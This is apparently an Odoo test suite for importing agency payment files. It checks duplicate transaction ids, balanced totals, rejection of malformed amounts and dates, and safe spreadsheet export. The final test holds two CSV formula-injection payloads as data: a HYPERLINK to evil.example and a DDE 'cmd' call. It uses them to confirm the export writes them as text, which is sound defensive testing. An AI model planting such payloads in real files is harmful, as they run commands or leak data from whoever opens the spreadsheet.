import io

import openpyxl

from odoo.exceptions import UserError
from odoo.tests import tagged

from .agency_common import UtilityAgencyCase


@tagged("post_install", "-at_install")
class TestAgencyImportMoney(UtilityAgencyCase):
    """No money of an agency file is dropped: a line reusing a transaction id
    is a duplicate only when it is the same payment; hostile amounts and
    times refuse the file with a clear error."""

    def _import(self, rows):
        agency_import = self._new_import(rows)
        agency_import.action_import()
        return agency_import, agency_import.line_ids.sorted("line_no")

    def _assert_totals_balance(self, agency_import):
        currency = agency_import.currency_id
        self.assertTrue(agency_import.totals_balanced)
        self.assertFalse(
            currency.compare_amounts(
                agency_import.file_total,
                agency_import.booked_total
                + agency_import.duplicate_total
                + agency_import.kept_total
                + agency_import.refund_total,
            ),
            "file total = booked + already booked + kept + to refund",
        )

    def test_reused_transaction_id_of_another_customer_is_kept_not_dropped(self):
        first, (booked,) = self._import(["R-1,2025-01-10 09:00:00,0100000002,,100.00,POST-CG"])
        self.assertEqual(booked.state, "booked")
        payments = self.env["account.payment"].search_count([])
        # the next day's file reuses R-1 for another customer, for another
        # amount, and repeats R-1 exactly
        second, lines = self._import(
            [
                f"R-1,2025-01-11 10:00:00,0100000003,{self.bill_2.name},60.00,POST-LZ",
                "R-1,2025-01-11 10:05:00,0100000002,,35.00,POST-CG",
                "R-1,2025-01-10 09:00:00,0100000002,,100.00,POST-CG",
            ]
        )
        self.assertEqual(
            [(line.state, line.reason or "") for line in lines],
            [
                ("kept", "duplicate_conflict"),
                ("kept", "duplicate_conflict"),
                ("duplicate", ""),
            ],
        )
        # the true duplicate shows the payment it repeats; the others name it
        self.assertEqual(lines[2].payment_id, booked.payment_id)
        self.assertIn(booked.payment_id.name, lines[0].note)
        self.assertEqual(self.env["account.payment"].search_count([]), payments)
        self.assertEqual(second.kept_total, 95.0)
        self.assertEqual(second.duplicate_total, 100.0)
        self._assert_totals_balance(second)
        self._assert_totals_balance(first)

        # the accountant checks with the agency and books Li Lei's money
        lines[0].action_book()
        self.assertEqual(lines[0].state, "resolved")
        payment = lines[0].payment_id
        self.assertNotEqual(payment, booked.payment_id)
        self.assertEqual(payment.partner_id, self.customer_2)
        self.assertEqual(payment.amount, 60.0)
        self.assertEqual(self.bill_2.payment_state, "paid")
        # booked once only, even if the accountant clicks again
        with self.assertRaises(UserError):
            lines[0].action_book()
        lines[1].action_mark_refund()
        self.assertEqual(second.refund_total, 35.0)
        self._assert_totals_balance(second)

    def test_reused_transaction_id_within_a_file_is_kept_unless_the_same_payment(self):
        agency_import, lines = self._import(
            [
                "S-1,2025-01-10 09:00:00,0100000002,,40.00,POST-CG",
                "S-1,2025-01-10 09:00:00,0100000003,,40.00,POST-CG",
                "S-1,2025-01-10 09:00:00,0100000002,,40.00,POST-CG",
            ]
        )
        self.assertEqual(
            [(line.state, line.reason or "") for line in lines],
            [("booked", ""), ("kept", "duplicate_conflict"), ("duplicate", "")],
        )
        self.assertIn("line 2", lines[2].note)
        self._assert_totals_balance(agency_import)

    def test_transaction_id_the_api_used_for_another_amount_is_kept(self):
        api_payment = self.env["account.payment"]._utility_pay(
            self.customer,
            30.0,
            self.outlet_cg,
            date="2025-01-10",
            external_txn_id="A-1",
            txn_scope=self.agency._utility_txn_scope(),
            journal=self.agency.journal_id,
        )
        agency_import, (line,) = self._import(
            ["A-1,2025-01-10 09:00:00,0100000002,,300.00,POST-CG"]
        )
        self.assertEqual((line.state, line.reason), ("kept", "duplicate_conflict"))
        self.assertIn(api_payment.name, line.note)
        self._assert_totals_balance(agency_import)

    def test_hostile_amounts_and_times_refuse_the_file_with_a_clear_error(self):
        payments = self.env["account.payment"].search_count([])
        good = "H-1,2025-01-10 09:00:00,0100000002,,12.00,POST-CG"
        cases = [
            ("12.00", "١٢", "not a number"),
            ("12.00", "1e1", "not a number"),
            ("12.00", "+12", "not a number"),
            ("12.00", " 12.00", "not a number"),
            ("12.00", "NaN", "not a number"),
            ("12.00", "Infinity", "not a number"),
            ("12.00", "1e308", "not a number"),
            ("12.00", "1" + "0" * 308, "too large"),
            ("12.00", '"12,5"', "not a number"),
            ("2025-01-10 09:00:00", "0001-01-01T00:00:00+23:59", "not a date"),
            ("2025-01-10 09:00:00", "9999-12-31T23:59:59-23:59", "not a date"),
        ]
        for old, new, message in cases:
            with self.subTest(value=new[:20]):
                agency_import = self._new_import([good.replace(old, new)])
                with self.assertRaisesRegex(UserError, message):
                    agency_import.action_import()
                self.assertEqual(agency_import.state, "draft")
                self.assertFalse(agency_import.line_ids)
        self.assertEqual(self.env["account.payment"].search_count([]), payments)

    def test_thousands_separator_is_the_agency_one(self):
        rows = ['T-1,2025-01-10 09:00:00,0100000002,,"1,000.00",POST-CG']
        agency_import, (line,) = self._import(rows)
        self.assertEqual(line.amount, 1000.0)
        self.agency.file_thousands_separator = "none"
        with self.assertRaisesRegex(UserError, "not a number"):
            self._new_import([rows[0].replace("T-1", "T-2")]).action_import()
        self.agency.file_thousands_separator = "space"
        agency_import, (line,) = self._import(
            ["T-3,2025-01-10 09:00:00,0100000002,,1 000.00,POST-CG"]
        )
        self.assertEqual(line.amount, 1000.0)

    def test_formulas_in_an_agency_file_stay_text_in_the_settlement_xlsx(self):
        hostile = ['=HYPERLINK("http://evil.example/?leak","Click")', "=cmd|' /C calc'!A0"]
        rows = [
            '"=HYPERLINK(""http://evil.example/?leak"",""Click"")",2025-01-10 09:00:00,'
            "0100000002,,10.00,POST-CG",
            "=cmd|' /C calc'!A0,2025-01-10 09:05:00,0100000002,,5.00,POST-CG",
        ]
        agency_import, lines = self._import(rows)
        self.assertEqual(lines.mapped("txn_id"), hostile)
        self.assertEqual(lines.mapped("state"), ["booked", "booked"])
        settlement = self.env["utility.agency.settlement"].create(
            {
                "agency_id": self.agency.id,
                "date_from": "2025-01-10",
                "date_to": "2025-01-10",
                "bank_journal_id": self.bank_journal.id,
            }
        )
        settlement.action_load_payments()
        content, _kind = self.env["ir.actions.report"]._render_xlsx(
            "utility_payment_channels.action_report_agency_settlement_xlsx", settlement.ids, None
        )
        # read back as a spreadsheet application reads it
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
        for text in hostile:
            self.assertIn(text, cells, "the transaction id is in the statement")
            self.assertEqual(cells[text].data_type, "s", f"{text} is written as text")
